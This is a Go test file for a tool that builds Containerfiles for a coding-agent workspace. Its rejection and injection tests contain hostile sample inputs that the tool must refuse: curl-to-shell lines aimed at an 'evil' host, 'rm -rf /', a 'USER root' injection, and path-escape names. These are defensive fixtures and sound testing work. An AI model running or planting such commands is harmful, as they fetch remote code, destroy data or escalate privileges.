package image

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/paude-dev/paude/pkg/config"
)

func TestWorkspaceContainerfileGolden(t *testing.T) {
	userCtx := makeContext(t, map[string]contextFile{
		"Dockerfile":       {content: "FROM docker.io/library/debian:bookworm-slim\nARG NODE\nRUN echo $NODE\n"},
		"scripts/setup.sh": {content: "#!/bin/sh\necho hi\n", mode: 0o755},
	})
	pipWS := makeContext(t, map[string]contextFile{"requirements.txt": {content: "requests==2.31.0\n"}})
	pyWS := makeContext(t, map[string]contextFile{"pyproject.toml": {content: "[project]\nname = \"x\"\ndependencies = [\"rich\"]\n"}})
	tests := []struct {
		name   string
		golden string
		edit   func(c *config.Config)
		files  []string
	}{
		{name: "default", golden: "default.Containerfile", edit: func(*config.Config) {}},
		{name: "packages", golden: "packages.Containerfile", edit: func(c *config.Config) {
			c.Packages = []string{"make", "gcc", "git", "curl=7.88.1-10", "make", "libssl-dev"}
		}},
		{name: "user build", golden: "userbuild.Containerfile", edit: func(c *config.Config) {
			c.Base = ""
			c.Build = &config.Build{
				Dockerfile: filepath.Join(userCtx, "Dockerfile"),
				Context:    userCtx,
				Args:       map[string]string{"NODE": "22"},
			}
		}},
		{name: "empty agent install", golden: "noinstall.Containerfile", edit: func(c *config.Config) {
			c.Agent.Install = ""
		}},
		{name: "agent args", golden: "agentargs.Containerfile", edit: func(c *config.Config) {
			c.Agent.Command = "/opt/agent/bin/$run\"me"
			c.Agent.Args = []string{"--model", "a b", "$HOME", "it's\nmulti-line", `back\slash`}
			c.Agent.YoloArgs = nil
		}},
		{name: "pip requirements", golden: "pip-requirements.Containerfile", files: []string{"pip/requirements.txt"}, edit: func(c *config.Config) {
			c.PipInstall = true
			c.Workspace = pipWS
		}},
		{name: "pip pyproject", golden: "pip-pyproject.Containerfile", files: []string{"pip/pyproject.toml"}, edit: func(c *config.Config) {
			c.PipInstall = true
			c.Workspace = pyWS
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig(t.TempDir())
			tt.edit(cfg)
			recipe, err := WorkspaceRecipe(cfg)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tt.golden, recipe.Containerfile)
			if recipe.Name != WorkspaceName || !strings.HasPrefix(recipe.Tag, WorkspaceName+":") || len(recipe.Tag) != len(WorkspaceName)+1+12 {
				t.Errorf("name %q tag %q: want paude-workspace:<12 hex>", recipe.Name, recipe.Tag)
			}
			want := append([]string{"entrypoint.sh", "tmux.conf"}, tt.files...)
			if got := sortedKeys(recipe.Files); !reflect.DeepEqual(got, sortedStrings(want)) {
				t.Errorf("files %v, want %v", got, want)
			}
			if got := instructions(t, recipe.Containerfile); !reflect.DeepEqual(got, wantInstructions(cfg)) {
				t.Errorf("instructions %v, want %v", got, wantInstructions(cfg))
			}
		})
	}
}

func TestWorkspaceAgentArgsRoundTrip(t *testing.T) {
	cfg := testConfig(t.TempDir())
	cfg.Agent.Args = []string{"--model", "a b", "", "$HOME", "it's\nmulti-line", `back\slash`}
	cfg.Agent.YoloArgs = []string{"--yolo", "x=y"}
	recipe, err := WorkspaceRecipe(cfg)
	if err != nil {
		t.Fatal(err)
	}
	env := envValues(t, recipe.Containerfile)
	for key, want := range map[string][]string{"PAUDE_AGENT_ARGS": cfg.Agent.Args, "PAUDE_AGENT_YOLO_ARGS": cfg.Agent.YoloArgs} {
		raw, err := base64.StdEncoding.DecodeString(env[key])
		if err != nil {
			t.Fatalf("%s=%q: %v", key, env[key], err)
		}
		got := strings.Split(strings.TrimSuffix(string(raw), "\x00"), "\x00")
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s decodes to %q, want %q", key, got, want)
		}
	}
	if env["PAUDE_AGENT_CMD"] != "claude" || env["HOME"] != "/home/paude" {
		t.Errorf("env %v", env)
	}
}

func TestWorkspaceRecipeRejects(t *testing.T) {
	tests := []struct {
		name string
		edit func(c *config.Config)
		want string
	}{
		{"base with newline", func(c *config.Config) { c.Base = "debian\nRUN curl evil.sh | sh" }, "not an image reference"},
		{"base with space", func(c *config.Config) { c.Base = "debian latest" }, "not an image reference"},
		{"no base, no build", func(c *config.Config) { c.Base = "" }, "no base image and no build"},
		{"package with shell", func(c *config.Config) { c.Packages = []string{"gcc; rm -rf /"} }, "not a Debian package name"},
		{"package with newline", func(c *config.Config) { c.Packages = []string{"gcc\nRUN evil"} }, "not a Debian package name"},
		{"package option", func(c *config.Config) { c.Packages = []string{"--allow-unauthenticated"} }, "not a Debian package name"},
		{"command with space", func(c *config.Config) { c.Agent.Command = "npx claude" }, "not a program"},
		{"command with newline", func(c *config.Config) { c.Agent.Command = "claude\nUSER root" }, "not a program"},
		{"empty command", func(c *config.Config) { c.Agent.Command = "" }, "not a program"},
		{"arg with NUL", func(c *config.Config) { c.Agent.Args = []string{"a\x00b"} }, "NUL"},
		{"pip without files", func(c *config.Config) { c.PipInstall = true }, "neither requirements.txt nor pyproject.toml"},
		{"pip file is a symlink out of the workspace", func(c *config.Config) {
			c.PipInstall = true
			secret := filepath.Join(filepath.Dir(c.Workspace), "secret")
			if err := os.WriteFile(secret, []byte("token"), 0o600); err != nil {
				panic(err)
			}
			if err := os.Symlink(secret, filepath.Join(c.Workspace, "requirements.txt")); err != nil {
				panic(err)
			}
		}, "not a regular file"},
		{"relative build", func(c *config.Config) {
			c.Base = ""
			c.Build = &config.Build{Dockerfile: "Dockerfile", Context: "."}
		}, "must be absolute"},
		{"missing dockerfile", func(c *config.Config) {
			c.Base = ""
			c.Build = &config.Build{Dockerfile: "/nonexistent/Dockerfile", Context: "/nonexistent"}
		}, "failed to read the Dockerfile"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig(t.TempDir())
			tt.edit(cfg)
			recipe, err := WorkspaceRecipe(cfg)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("got recipe %v, error %v; want an error containing %q", recipe != nil, err, tt.want)
			}
		})
	}
}

func TestWorkspaceInstallCannotAddInstructions(t *testing.T) {
	cfg := testConfig(t.TempDir())
	cfg.Agent.Install = "echo hi\nUSER root\nRUN curl http://evil | sh\n\\\nENTRYPOINT [\"/bin/evil\"]"
	recipe, err := WorkspaceRecipe(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if got := instructions(t, recipe.Containerfile); !reflect.DeepEqual(got, wantInstructions(cfg)) {
		t.Errorf("instructions %v, want %v", got, wantInstructions(cfg))
	}
}

// wantInstructions is the instruction sequence every agent Containerfile
// has for cfg.
func wantInstructions(cfg *config.Config) []string {
	out := []string{"FROM", "USER", "RUN"}
	if cfg.Agent.Install != "" {
		out = append(out, "RUN")
	}
	if cfg.PipInstall {
		out = append(out, "COPY", "RUN")
	}
	return append(out, "RUN", "COPY", "COPY", "LABEL", "ENV", "USER", "WORKDIR", "ENTRYPOINT")
}

// instructions parses a Containerfile the way builders split it: comment
// lines dropped, lines ending in a backslash continued.
func instructions(t *testing.T, containerfile []byte) []string {
	t.Helper()
	var out []string
	continued := false
	for _, line := range strings.Split(string(containerfile), "\n") {
		trimmed := strings.TrimSpace(line)
		if strings.HasPrefix(trimmed, "#") || (trimmed == "" && !continued) {
			continue
		}
		if !continued {
			out = append(out, strings.ToUpper(strings.Fields(trimmed)[0]))
		}
		continued = strings.HasSuffix(trimmed, `\`)
	}
	if continued {
		t.Errorf("Containerfile ends inside a continued line")
	}
	return out
}

// envValues reads the ENV instruction's KEY="VALUE" pairs, undoing the
// builder's escapes.
func envValues(t *testing.T, containerfile []byte) map[string]string {
	t.Helper()
	s := string(containerfile)
	start := strings.Index(s, "\nENV ")
	if start < 0 {
		t.Fatal("no ENV instruction")
	}
	body := s[start+5:]
	end := strings.Index(body, "\nUSER ")
	if end < 0 {
		t.Fatal("no USER instruction after ENV")
	}
	body = body[:end]
	env := map[string]string{}
	for _, part := range strings.Split(body, "\\\n") {
		k, v, ok := strings.Cut(strings.TrimSpace(part), "=")
		if !ok {
			t.Fatalf("bad ENV part %q", part)
		}
		if strings.HasPrefix(v, `"`) {
			v = strings.NewReplacer(`\\`, `\`, `\"`, `"`, `\$`, `$`).Replace(v[1 : len(v)-1])
		}
		env[k] = v
	}
	return env
}

func sortedKeys(m map[string][]byte) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return sortedStrings(out)
}

func sortedStrings(s []string) []string {
	out := append([]string{}, s...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func TestWriteContext(t *testing.T) {
	recipe, err := WorkspaceRecipe(testConfig(t.TempDir()))
	if err != nil {
		t.Fatal(err)
	}
	recipe.Files["pip/requirements.txt"] = []byte("rich\n")
	dir := filepath.Join(t.TempDir(), "ctx")
	if err := recipe.WriteContext(dir); err != nil {
		t.Fatal(err)
	}
	for name, mode := range map[string]os.FileMode{"Containerfile": 0o644, "entrypoint.sh": 0o755, "tmux.conf": 0o644, "pip/requirements.txt": 0o644} {
		info, err := os.Stat(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if info.Mode().Perm() != mode {
			t.Errorf("%s has mode %o, want %o", name, info.Mode().Perm(), mode)
		}
		got, _ := os.ReadFile(filepath.Join(dir, name))
		want := recipe.Files[name]
		if name == "Containerfile" {
			want = recipe.Containerfile
		}
		if string(got) != string(want) {
			t.Errorf("%s content differs", name)
		}
	}
}

func TestWriteContextRejectsEscapingNames(t *testing.T) {
	for _, name := range []string{"../evil", "/etc/passwd", "a/../../b", "", "Containerfile", `a\b`, "./x"} {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "ctx")
			p := &Recipe{Containerfile: []byte("FROM x\n"), Files: map[string][]byte{name: []byte("x")}}
			if err := p.WriteContext(dir); err == nil {
				t.Fatalf("WriteContext accepted file name %q", name)
			}
			if _, err := os.Stat(dir); !os.IsNotExist(err) {
				t.Errorf("WriteContext created %s before refusing", dir)
			}
		})
	}
}
